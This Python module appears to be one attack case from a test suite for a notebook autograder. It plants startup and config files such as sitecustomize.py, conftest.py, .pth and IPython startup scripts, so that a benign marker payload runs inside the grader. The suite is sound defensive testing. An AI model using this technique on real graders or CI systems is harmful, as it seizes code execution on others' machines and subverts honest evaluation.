"""Attack: hands in the files that Python, IPython, pytest, nbgrader and Jupyter run or read when they start.
Wants: own code where the judge runs.
Honest mark: 22
"""

import json

from attacks import corpus
from pour import pour, released

CODE = "open('/tmp/convgrade-attack', 'w').write('x')\nraise SystemExit(3)\n"
NAMES = """
    sitecustomize.py usercustomize.py conftest.py setup.py nbgrader_config.py ipython_config.py jupyter_config.py
    jupyter_nbconvert_config.py ipython_kernel_config.py startup.pth autograder/__init__.py reference/__init__.py
    .ipython/profile_default/startup/00.py .jupyter/jupyter_config.py __main__.py hypothesis/__init__.py
"""


def make(folder):
    for name in NAMES.split():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(CODE)
    (folder / "pytest.ini").write_text("[pytest]\naddopts = -p conftest\n")
    notebook = pour(released(corpus.ASSIGNMENT, corpus.NAME), corpus.EXEMPLAR)
    (folder / f"{corpus.NAME}.ipynb").write_text(json.dumps(notebook))
